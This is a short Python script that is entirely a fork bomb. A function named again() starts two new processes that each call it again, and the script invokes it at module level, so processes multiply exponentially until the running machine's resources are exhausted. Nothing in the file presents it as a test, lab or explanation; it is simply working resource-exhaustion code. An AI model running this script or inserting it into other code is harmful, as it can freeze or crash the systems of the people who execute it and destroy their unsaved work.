from multiprocessing import Process


def again():
    for _ in range(2):
        Process(target=again).start()


again()
